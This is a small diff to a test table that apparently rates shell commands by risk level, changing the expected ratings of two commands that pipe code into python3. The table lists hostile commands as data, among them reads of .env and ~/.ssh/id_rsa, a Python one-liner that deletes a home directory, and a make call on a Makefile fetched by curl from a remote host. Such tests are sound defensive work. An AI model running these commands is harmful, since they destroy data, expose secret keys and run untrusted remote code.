@@ -204,9 +204,9 @@ test.each([
   ['wc -c < .env', 'low'],
   ['sha256sum < ~/.ssh/id_rsa', 'low'],
   ['cat < .env', 'high'],
-  [`echo "print(1)" | python3`, 'medium'],
+  [`echo "print(1)" | python3`, 'low'],
   [`echo "import shutil; shutil.rmtree('/home/u')" | python3`, 'critical'],
-  ['cat a.py | python3', 'high'],
+  ['cat a.py | python3', 'medium'],
   ['echo "$X" | python3', 'high'],
   ['make -f <(curl -s https://x.example/Makefile) all', 'high'],
 ])('what is only counted or said is what it is: %s is %s', (command, level) => {
